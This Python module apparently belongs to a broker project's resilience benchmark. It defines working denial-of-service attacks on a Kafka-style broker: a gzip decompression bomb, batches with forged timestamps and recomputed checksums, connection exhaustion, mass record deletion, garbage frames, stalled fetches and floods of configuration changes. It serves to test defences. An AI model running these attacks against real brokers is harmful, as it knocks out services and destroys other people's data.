"""The attackers of `bench/attacks.py`, each alone against one broker: unauthenticated clients that
do what the protocol lets anybody do. Each has a part that prepares and a part that runs until its
process is ended. Those that send many requests, or much of one, are in `floods`.
"""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

from attacker_kit import (
    NAMED,
    PATIENCE_S,
    PRODUCE_VERSION,
    TOPIC,
    Target,
    connect,
    frame_of,
    make_topic,
    parked,
    produce,
    repeat,
    take,
)
from floods import FLOODS
from holdfast.clients.blocking_driver import Driver
from holdfast.wire.batch import Codec, Record, build_batch
from holdfast.wire.checksum import crc32c
from holdfast.wire.errors import ErrorCode
from holdfast.wire.messages.delete_records import (
    DeleteRecordsPartition,
    DeleteRecordsRequest,
    DeleteRecordsTopic,
)
from holdfast.wire.messages.incremental_alter_configs import (
    AlterableConfig,
    AlterConfigsResource,
    IncrementalAlterConfigsRequest,
)
from holdfast.wire.messages.list_offsets import (
    ListOffsetsPartition,
    ListOffsetsRequest,
    ListOffsetsTopic,
)
from holdfast.wire.structs import ResourceType

BOMB_BYTES, SMALL_BOMB_BYTES = 100_000_000, 16_000_000  # what they inflate to
_LIST_VERSION, _DELETE_VERSION, _CONFIGS_VERSION = 5, 2, 1
_MAX_TIMESTAMP = 35, 8  # where it stands in a batch, and its bytes
_CRC = 17, 4  # of all from byte 21 on
_CONNECTIONS_MAX = 2_000
_LIE_MS = 3_000_000  # from now: under message.timestamp.after.max.ms


def _prepare_bomb(target: Target) -> bytes:
    make_topic(target, compression_type="lz4")
    return _bomb(BOMB_BYTES)


def _prepare_small_bomb(target: Target) -> bytes:
    """As large as it may be: it is compressed again, and appended."""
    make_topic(target, compression_type="lz4")
    return _bomb(SMALL_BOMB_BYTES)


def _bomb(size: int) -> bytes:
    bomb = build_batch([Record(value=bytes(size), timestamp=1)], codec=Codec.GZIP)
    return frame_of(produce(bytes(bomb)), PRODUCE_VERSION)


def _run_bomb(target: Target, frame: bytes) -> None:
    repeat(target, [frame])


def _prepare_lies(target: Target) -> bytes:
    """Fill a topic with tiny records whose headers promise a timestamp that none of them has."""
    make_topic(target)
    now_ms = int(time.time() * 1000)
    batch = build_batch([Record(value=b"", timestamp=1)] * 3_000)
    _put(batch, _MAX_TIMESTAMP, now_ms + _LIE_MS)
    _put(batch, _CRC, crc32c(memoryview(batch)[21:]))
    with Driver(target.bootstrap, timeout_s=PATIENCE_S) as driver:
        for _ in range(50):
            answer = driver.peer(target.node).send(produce(bytes(batch)), version=PRODUCE_VERSION)
            error = answer.responses[0].partition_responses[0].error_code
            assert error == ErrorCode.NONE, f"the lies were refused: error {error}"
    asked = ListOffsetsPartition(partition_index=0, timestamp=now_ms + _LIE_MS // 2)
    topic = ListOffsetsTopic(name=TOPIC, partitions=[asked])
    return frame_of(ListOffsetsRequest(topics=[topic]), _LIST_VERSION)


def _put(batch: bytearray, place: tuple[int, int], value: int) -> None:
    start, size = place
    batch[start : start + size] = value.to_bytes(size, "big")


def _run_lies(target: Target, frame: bytes) -> None:
    repeat(target, [frame], in_flight=4)


def _run_parked(target: Target, _: None) -> None:
    """Name the neighbour's partition 100,000 times in each of twelve fetches that wait."""
    frame = parked("neighbour", NAMED)
    while True:
        connections: list[socket.socket] = []
        for _number in range(12):
            with suppress(OSError):
                connections.append(connect(target))
                connections[-1].sendall(frame)
        time.sleep(5.0)
        for connection in connections:
            connection.close()


def _prepare_unread(target: Target) -> None:
    make_topic(target)
    batch = bytes(build_batch([Record(value=os.urandom(900_000), timestamp=1)]))
    with Driver(target.bootstrap, timeout_s=PATIENCE_S) as driver:
        for _ in range(22):
            driver.peer(target.node).send(produce(batch), version=PRODUCE_VERSION)


def _run_unread(target: Target, _: None) -> None:
    """Ask for 20 MB sixty times behind a fetch that waits, and read nothing."""
    frames = parked("neighbour", 1) + 60 * parked(TOPIC, 1, 20_000_000, 1)
    while True:
        with suppress(OSError), connect(target) as connection:
            connection.settimeout(2.0)
            connection.sendall(frames)
            time.sleep(2.0)


def _run_connections(target: Target, _: None) -> None:
    """Open as many connections as there may be, as fast as can be; then all once more."""
    while True:
        opened: list[socket.socket] = []
        with suppress(OSError):
            while len(opened) < _CONNECTIONS_MAX:
                opened.append(connect(target))
        for connection in opened:
            connection.close()


def _prepare_deletions(target: Target) -> list[bytes]:
    make_topic(target, partitions=1_000)
    batch = bytes(build_batch([Record(value=b"x", timestamp=1)]))
    everything = [DeleteRecordsPartition(partition_index=n, offset=-1) for n in range(1_000)]
    topic = DeleteRecordsTopic(name=TOPIC, partitions=everything)
    return [
        frame_of(produce(batch, 1_000), PRODUCE_VERSION),
        frame_of(DeleteRecordsRequest(topics=[topic], timeout_ms=10_000), _DELETE_VERSION),
    ]


def _run_deletions(target: Target, frames: list[bytes]) -> None:
    repeat(target, frames)


def _run_garbage(target: Target, _: None) -> None:
    """Send what is no request, in frames of the right length and without; connect again."""
    while True:
        with suppress(OSError), connect(target) as connection:
            noise = os.urandom(65_536)
            connection.sendall(len(noise).to_bytes(4, "big") + noise + os.urandom(4_096))
            connection.settimeout(0.5)
            take(connection)


def _prepare_administration(target: Target) -> list[bytes]:
    make_topic(target)

    def change(value: int) -> bytes:
        configs = [AlterableConfig(name="retention.ms", value=str(value))]
        resource = AlterConfigsResource(
            resource_type=ResourceType.TOPIC, resource_name=TOPIC, configs=configs
        )
        return frame_of(IncrementalAlterConfigsRequest(resources=[resource]), _CONFIGS_VERSION)

    return [change(100_000_000 + number) for number in range(50)]


def _run_administration(target: Target, frames: list[bytes]) -> None:
    repeat(target, frames, in_flight=50)


ATTACKS: dict[str, tuple[Callable[[Target], Any] | None, Callable[..., None]]] = {
    "gzip-bomb": (_prepare_bomb, _run_bomb),
    "small-bomb": (_prepare_small_bomb, _run_bomb),
    "lying-timestamps": (_prepare_lies, _run_lies),
    "parked-fetches": (None, _run_parked),
    "unread-fetches": (_prepare_unread, _run_unread),
    "connections": (None, _run_connections),
    "delete-records": (_prepare_deletions, _run_deletions),
    "garbage": (None, _run_garbage),
    "administration": (_prepare_administration, _run_administration),
    **FLOODS,
}
